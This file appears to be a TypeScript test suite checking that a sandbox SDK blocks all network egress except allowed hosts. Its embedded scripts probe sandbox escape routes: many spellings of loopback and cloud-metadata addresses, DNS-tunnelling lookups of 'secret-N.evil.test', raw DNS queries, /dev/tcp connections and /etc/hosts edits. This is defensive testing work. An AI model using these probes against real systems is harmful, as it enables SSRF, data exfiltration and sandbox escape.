import { rmSync, writeFileSync } from "node:fs";
import { networkInterfaces } from "node:os";
import { join } from "node:path";
import { isIPv4 } from "node:net";
import { NetworkPolicy, Sandbox } from "@mvm/sdk";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type NameServer, nameServer } from "../support/name-server.js";
import { makeAuthority, operatorNetwork, type Outside, serveHttps, serveTcp, trust } from "../support/outside.js";
import { root, sh, text, until, useScene, verdict } from "../support/scene.js";

const scene = useScene();
const names = ["api.test", "front.test"];
const authority = makeAuthority(names);
/** Names that the name server leads to places nobody may reach. */
const traps: Record<string, string> = {
  "loopback.test": "127.0.0.1",
  "metadata.test": "169.254.169.254",
  "any.test": "0.0.0.0",
  "private.test": "10.1.2.3",
  "shared.test": "100.64.0.1",
};
const policy = [...names, ...Object.keys(traps)]
  .reduce((rules, name) => rules.allowHttps(name), NetworkPolicy.denyByDefault())
  .allowTcp("held.test", 7000)
  .allowTcp("loopback.test", 7000);
let dns: NameServer;
let https: Outside;
let foreign: Outside;
let tcp: Outside;
let sandbox: Sandbox;
const met = (): number => https.connections + foreign.connections + tcp.connections;

beforeAll(async () => {
  dns = await nameServer((name) => (traps[name] === undefined ? [] : [traps[name]]));
  https = await serveHttps(authority, (request, response) => response.end(request.headers.host));
  foreign = await serveHttps(makeAuthority(["front.test"]), (_request, response) => response.end("foreign"));
  tcp = await serveTcp((socket) => socket.pipe(socket));
  const to = ({ port }: Outside): string => `127.0.0.1:${port}`;
  const overrides = { "api.test": to(https), "front.test": to(foreign), "held.test": to(tcp) };
  operatorNetwork(scene.home, { overrides, resolvers: [dns.address] });
  sandbox = await scene.sandbox({ network: policy });
  await trust(sandbox, authority);
});
afterAll(async () => {
  dns.close();
  await Promise.all([https, foreign, tcp].map((outside) => outside.close()));
});

/** What the daemon decided since the log was last looked at, as `host reason`. */
async function refusals(): Promise<string[]> {
  const lines: string[] = [];
  for await (const { line } of sandbox.logs({ source: "supervisor" })) {
    const { event, host, reason } = JSON.parse(line) as Record<string, string>;
    if (event === "egress.refused") lines.push(`${host} ${reason}`);
  }
  return lines;
}

describe("N-01 N-13 there is no other way out", () => {
  it("N-01 N-13 only lo, no route, no UDP, no ICMP, no IPv6, no raw socket that anybody hears, for root too", async () => {
    const script = `
import errno, os, socket
print(sorted(os.listdir("/sys/class/net")))
def attempt(kind, family, type, proto, address):
    try:
        s = socket.socket(family, type, proto); s.settimeout(5)
        s.connect(address); s.send(b"x"); s.recv(1); print(kind, "REACHED")
    except OSError as e:
        print(kind, errno.errorcode.get(e.errno, str(e)))
attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, 0, ("192.0.2.1", 80))
attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, 0, ("192.0.2.1", 53))
attempt("quic", socket.AF_INET, socket.SOCK_DGRAM, 0, (socket.gethostbyname("api.test"), 443))
attempt("icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ("192.0.2.1", 0))
attempt("multicast", socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353))
attempt("tcp6", socket.AF_INET6, socket.SOCK_STREAM, 0, ("2001:db8::1", 80))
attempt("link6", socket.AF_INET6, socket.SOCK_DGRAM, 0, ("ff02::fb", 5353))`;
    const out = await text(sandbox, `python3 - <<'END'\n${script}\nEND`, root);
    // A link-local group belongs to an interface, and there is none to name.
    expect(out.split("\n")).toEqual([
      ...["['lo']", "tcp ENETUNREACH", "udp ENETUNREACH", "quic ECONNREFUSED", "icmp ENETUNREACH"],
      ...["multicast ENETUNREACH", "tcp6 ENETUNREACH", "link6 EINVAL"],
    ]);
  });

  it("N-04 N-09 no spelling of the host's loopback, its addresses or its daemon is reached", async () => {
    const own = Object.values(networkInterfaces()).flatMap((entries) => entries ?? []);
    const spellings = [
      ...[
        "127.0.0.1",
        "127.1",
        "0x7f.0.0.1",
        "2130706433",
        "017700000001",
        "0",
        "0.0.0.0",
        "localhost",
        "127.255.255.254",
      ],
      ...["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "10.0.2.2"],
      ...["169.254.169.254", "[fd00:ec2::254]", "[fe80::1%25lo]", "host.docker.internal", "metadata.google.internal"],
      ...own.map(({ address }) => (isIPv4(address) ? address : `[${address.replace("%", "%25")}]`)),
    ];
    const before = met();
    const urls = spellings.flatMap((host) => [https, tcp].map(({ port }) => `http://${host}:${port}/`));
    const script = urls.map((url) => `timeout 20 curl -s -m 15 '${url}' && echo REACHED '${url}'`).join("\n");
    const result = await sh(sandbox, `${script}\ntrue`, { timeoutSeconds: 110 });
    expect(result).toMatchObject({ exitCode: 0, stdout: "" });
    expect(met()).toBe(before);
  });
});

describe("N-07 N-08 N-12 names", () => {
  it("N-07 N-08 allowed names that lead to private places are refused", async () => {
    const before = met();
    for (const name of Object.keys(traps)) {
      expect([7, 35, 56]).toContain((await sh(sandbox, `timeout 30 curl -s https://${name}/`)).exitCode);
    }
    expect(met()).toBe(before);
    const said = await refusals();
    for (const name of Object.keys(traps)) expect(said).toContain(`${name} private_address`);
  });

  it("N-12 data in names goes nowhere: what is on no list is not looked up, and no other name server answers", async () => {
    const asked = dns.asked.length;
    const script = `
import socket
for n in range(200):
    try: socket.gethostbyname(f"secret-{n}.evil.test"); print("RESOLVED")
    except socket.gaierror: pass
query = b"\\x12\\x34\\x01\\x00\\x00\\x01" + bytes(6) + b"\\x06secret\\x04evil\\x04test\\x00\\x00\\x10\\x00\\x01"
for server in ("8.8.8.8", "127.0.0.1", "127.0.0.53", "198.18.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    try: s.connect((server, 53)); s.send(query); print(server, s.recv(512)[3] & 15)
    except OSError as e: print(server, type(e).__name__ if e.errno is None else e.errno)`;
    const out = await text(sandbox, `python3 - <<'END'\n${script}\nEND`);
    // Network unreachable, connection refused, and the agent's own NXDOMAIN.
    expect(out.split("\n")).toEqual(["8.8.8.8 101", "127.0.0.1 111", "127.0.0.53 111", "198.18.0.1 3"]);
    expect(dns.asked.slice(asked)).toEqual([]);
  });

  it("N-21 the guest's own hosts and resolv.conf change where programs look, and nothing about what is allowed", async () => {
    const before = foreign.connections;
    const address = await text(sandbox, "getent ahostsv4 api.test | head -n1 | cut -d' ' -f1");
    await text(sandbox, `echo '${address} front.test wild.test' >>/etc/hosts`, root);
    // The address stands for api.test, whatever else it is called here: another name is not what the rule allows.
    expect([35, 56]).toContain((await sh(sandbox, "curl -s https://front.test/")).exitCode);
    expect(await refusals()).toContain("api.test other_server_name");
    await text(sandbox, "sed -i '/front.test/d' /etc/hosts", root);
    expect(foreign.connections).toBe(before);
  });
});

describe("N-10 N-11 N-17 TLS", () => {
  it.each([
    ["another server name", "-servername front.test", "other_server_name"],
    ["no server name", "-noservername", "no_server_name"],
  ])("N-11 %s is refused before anybody outside hears of it", async (_what, option, reason) => {
    const before = met();
    const { exitCode } = await sh(sandbox, `timeout 30 openssl s_client -connect api.test:443 ${option} </dev/null`);
    expect(exitCode).not.toBe(0);
    expect(await refusals()).toContain(`api.test ${reason}`);
    expect(met()).toBe(before);
  });

  it("N-10 other bytes on an https rule are refused", async () => {
    const before = met();
    expect([52, 56]).toContain((await sh(sandbox, "timeout 30 curl -s http://api.test:443/")).exitCode);
    expect(await refusals()).toContain("api.test not_tls");
    expect(met()).toBe(before);
  });

  it("N-17 a server whose certificate nobody trusts fails in the program, without a fall-back", async () => {
    expect((await sh(sandbox, "timeout 30 curl -s https://front.test/")).exitCode).toBe(60);
    expect(await text(sandbox, "timeout 30 curl -s https://api.test/")).toBe("api.test");
  });
});

describe("N-15 X-10 the policy of now decides", () => {
  it("N-15 a live update cuts what it does not allow, and gives and takes names", async () => {
    const other = await scene.sandbox({ network: policy });
    const held = await other.commands.start(["bash", "-c", "exec 3<>/dev/tcp/held.test/7000; echo on >&3; cat <&3"]);
    await until("the connection is open", () => tcp.sockets.size > 0);
    const info = await other.setNetwork(NetworkPolicy.denyByDefault().allowHttps("api.test"));
    expect(info.network).toEqual({ default: "deny", allow: [{ host: "api.test", port: 443, protocol: "https" }] });
    // The answer comes when all that is not allowed any more has been cut.
    await until("the server saw the end", () => tcp.sockets.size === 0, 1_000);
    expect(await held.wait()).toMatchObject({ exitCode: 1 });
    expect((await sh(other, "timeout 30 bash -c '</dev/tcp/held.test/7000'")).exitCode).toBe(1);
    await trust(other, authority);
    expect(await text(other, "curl -sS https://api.test/")).toBe("api.test");
    await other.setNetwork(NetworkPolicy.denyByDefault());
    expect(await text(other, "cat /etc/resolv.conf")).toBe("");
    expect((await sh(other, "timeout 30 curl -s https://api.test/")).exitCode).toBe(6);
    await other.destroy();
  });

  it("X-10 a restored sandbox has the policy it was saved with, or the stricter one it is given", async () => {
    const other = await scene.sandbox({ network: NetworkPolicy.denyByDefault().allowTcp("held.test", 7000) });
    const ask = "timeout 30 bash -c 'exec 3<>/dev/tcp/held.test/7000; echo hello >&3; head -n1 <&3'";
    expect(await text(other, ask)).toBe("hello");
    const { id } = await other.snapshot();
    await other.destroy();
    const same = await Sandbox.restore(id, { home: scene.home });
    expect(await text(same, ask)).toBe("hello");
    await same.destroy();
    const strict = await Sandbox.restore(id, { home: scene.home, network: NetworkPolicy.denyByDefault() });
    const before = tcp.connections;
    expect((await sh(strict, ask)).exitCode).not.toBe(0);
    expect(tcp.connections).toBe(before);
    await strict.destroy();
  });

  it("N-15 X-10 an operator's new rule cuts what runs, and refuses what would be restored or woken with more", async () => {
    const network = NetworkPolicy.denyByDefault().allowTcp("held.test", 7000);
    const other = await scene.sandbox({ network, name: "other", detach: true, ttlSeconds: 600 });
    const { id } = await other.snapshot();
    const script = "exec 3<>/dev/tcp/held.test/7000; echo on >&3; cat <&3";
    await other.commands.start(["bash", "-c", script]);
    await until("the connection is open", () => tcp.sockets.size > 0);
    const file = join(scene.home, "policy/held.cedar");
    const rule =
      '@id("ops.held") forbid (principal, action == Action::"network", resource) when { context.host == "held.test" };';
    writeFileSync(file, rule, { mode: 0o600 });
    try {
      await until("the server saw the end", () => tcp.sockets.size === 0);
      expect(await text(other, "cat /etc/resolv.conf")).toBe("");
      const refused = "PolicyDenied POLICY_DENIED";
      expect(await verdict(Sandbox.restore(id, { home: scene.home }))).toBe(refused);
      await other.cold();
      expect(await verdict(other.resume())).toBe(refused);
      const strict = await Sandbox.restore(id, { home: scene.home, network: NetworkPolicy.denyByDefault() });
      const before = tcp.connections;
      expect((await sh(strict, "timeout 30 bash -c '</dev/tcp/held.test/7000'")).exitCode).not.toBe(0);
      expect(tcp.connections).toBe(before);
      await strict.destroy();
    } finally {
      rmSync(file);
    }
    await other.resume();
    expect((await sh(other, "timeout 30 bash -c '</dev/tcp/held.test/7000'")).exitCode).toBe(0);
    await other.destroy();
  });
});
